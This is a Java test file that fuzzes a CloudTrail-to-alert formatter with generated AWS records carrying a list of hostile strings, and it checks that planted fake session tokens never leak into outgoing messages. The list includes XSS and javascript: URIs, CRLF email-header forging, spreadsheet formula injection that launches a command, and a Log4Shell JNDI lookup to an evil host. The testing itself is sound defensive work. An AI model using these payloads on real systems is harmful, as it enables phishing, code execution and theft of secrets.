package rolecall.alert;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import rolecall.json.CompactJson;
import rolecall.json.Json;

/** Records whose every text of a caller's choice tries to leak, forge or lure, in every format. */
class HostileAlertsTest {
  private static final long SEED = 20260302;

  private static final int RECORDS = 300;

  private static final List<String> TRICKS =
      List.of(
          "https://evil.example.com/login?a=b",
          "HTTPS://evil.example.com",
          "www.evil.example.com",
          "evil.example.com",
          "evil.com/x",
          "a@evil.com/x",
          "mailto:dana@evil.com",
          "javascript:alert(1)",
          "slack://open?team=T1",
          "//evil.example.com/x",
          "\\\\evil\\share",
          "s3.amazonaws.com/evil-bucket/login.html",
          "evil\uff0ecom",
          "<a href=\"https://evil.example.com\">click</a>",
          "<script>alert(1)</script>",
          "[click](https://evil.example.com)",
          "![x](//evil.example.com/p.png)",
          "``` code ```",
          "`*bold* _it_ ~no~`",
          "<!here> <@U012AB> <!channel> @here @channel",
          "<at>everyone</at>",
          "\r\nAccount:  123456789012",
          "\nOutcome:  success\n\nRules:    none\n",
          "\u2028Who:      nobody\u2029Region:   nowhere",
          "\u0085Event ID: 0",
          "\u001b[2J\u001b[31m\u009b1m\u0007",
          "\u202eetirw\u202c \u2066x\u2069 \u200b\u200d\ufeff",
          "=HYPERLINK(\"https://evil.example.com\")",
          "+1+cmd|'/c calc'!A0",
          "\nSubject: forged\nBcc: a@evil.com",
          "a" + " ".repeat(90) + "Account:  123456789012",
          "\u00a0".repeat(80) + "Account:",
          "\ud83d\ude00 \ud800 \udc00 x",
          "x".repeat(5000),
          "\u0000".repeat(400),
          "\"},\"analytic\":{\"uid\":\"not-judged\"}",
          "日本 עברית ёлка.рф",
          "%s %n {} ${jndi:ldap://evil.example.com}",
          "");

  private static final List<String> EVENTS =
      List.of(
          "sts.amazonaws.com AssumeRole",
          "iam.amazonaws.com UpdateAssumeRolePolicy",
          "iam.amazonaws.com AttachRolePolicy",
          "iam.amazonaws.com CreateRole",
          "cloudtrail.amazonaws.com StopLogging",
          "chime.amazonaws.com DeleteVoiceConnector",
          "sns.amazonaws.com DeleteTopic");

  private final Random random = new Random(SEED);
  private final Set<String> secrets = new TreeSet<>();

  @ParameterizedTest
  @ValueSource(booleans = {true, false})
  void no_record_leaks_forges_or_lures(boolean chat) {
    List<String> records = new ArrayList<>();
    for (int number = 0; number < RECORDS; number++) {
      records.add(record(number));
    }
    List<Announcement> all = Announcements.of(String.join("\n", records));
    assertThat(all.size()).isGreaterThan(RECORDS / 3);
    AlertMessages messages = new AlertMessages(Optional.empty(), chat);
    for (Announcement plain : all) {
      Announcement chained =
          random.nextBoolean()
              ? plain
              : TestChains.drawn(plain, 1 + random.nextInt(11), this::hostile);
      Remark.Follows follows = new Remark.Follows(trick(), Optional.of(trick()));
      Announcement one =
          random.nextBoolean()
              ? Announcements.with(chained, follows)
              : Announcements.with(chained, follows, new Remark.Amends(Announcements.AT));
      for (AlertMessage message : List.of(messages.of(one), messages.least(one))) {
        MessageRules.hold(one, message, chat);
        String sent = message.json() + message.subject() + message.attributes();
        assertThat(secrets).as("seed " + SEED).noneMatch(sent::contains);
      }
    }
  }

  private String record(int number) {
    String event = pick(EVENTS);
    String source = event.split(" ")[0];
    return """
    {"eventVersion":"1.11","eventSource":%s,"eventName":%s,"eventTime":"2026-03-%02dT%02d:%02d:00Z",\
    "eventType":"AwsApiCall","eventID":"e0000000-0000-4000-9000-%012d","awsRegion":"us-east-1",\
    "recipientAccountId":"111122223333","sourceIPAddress":%s,"userAgent":%s,%s\
    "userIdentity":{"type":"AssumedRole","principalId":"AROAEXAMPLE:x",\
    "arn":%s,"accountId":"444455556666","accessKeyId":"ASIAEXAMPLE000000001",\
    "sessionContext":{"sessionIssuer":{"type":"Role","arn":"arn:aws:iam::444455556666:role/Admin",\
    "userName":%s},"sourceIdentity":%s,"attributes":{"mfaAuthenticated":"false"}}},\
    "requestParameters":{"roleName":%s,"roleArn":%s,"roleSessionName":%s,"description":%s,\
    "policyDocument":%s,"tags":[{"key":%s,"value":%s}],%s:%s},"responseElements":%s}\
    """
        .formatted(
            text(source),
            text(event.split(" ")[1]),
            1 + number / 100,
            number % 20,
            number % 60,
            number,
            text(hostile()),
            text(hostile()),
            random.nextBoolean()
                ? ""
                : "\"errorCode\":\"AccessDenied\",\"errorMessage\":"
                    + text(
                        "User: arn:aws:sts::444455556666:assumed-role/Admin/x is not authorized to"
                            + " perform: sts:AssumeRole on resource:"
                            + " arn:aws:iam::111122223333:role/ChimeAdmin "
                            + hostile())
                    + ",",
            text("arn:aws:sts::444455556666:assumed-role/Admin/" + hostile()),
            text(hostile()),
            text(hostile()),
            text("ChimeAdmin" + hostile()),
            text("arn:aws:iam::111122223333:role/Chime" + hostile()),
            text(hostile()),
            text(hostile()),
            text(document()),
            text(hostile() + "k"),
            text(hostile()),
            text("extra" + hostile()),
            text(hostile()),
            "{\"credentials\":{\"accessKeyId\":\"ASIAEXAMPLE000000002\",\"sessionToken\":%s},%s:%s}"
                .formatted(text(secret()), text("x" + trick()), text(secret())));
  }

  private String document() {
    return "{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"*\",\"Federated\":"
        + text(hostile())
        + "},\"Action\":\"sts:AssumeRole\",\"Condition\":{\"StringEquals\":{\"sts:ExternalId\":"
        + text(hostile())
        + "}}}]}";
  }

  /** A trick or two, sometimes with a secret beside them. */
  private String hostile() {
    return switch (random.nextInt(6)) {
      case 0 -> trick() + " " + trick();
      case 1 -> "x" + trick();
      case 2 -> secret();
      case 3 -> "dana";
      default -> trick();
    };
  }

  private String trick() {
    return pick(TRICKS);
  }

  private String secret() {
    byte[] bytes = new byte[240];
    random.nextBytes(bytes);
    String token = "FwoGZXIvYXdzE" + Base64.getEncoder().encodeToString(bytes);
    secrets.add(token.substring(20, 60));
    return token;
  }

  private <T> T pick(List<T> of) {
    return of.get(random.nextInt(of.size()));
  }

  private static String text(String text) {
    return CompactJson.write(new Json.Str(text));
  }
}
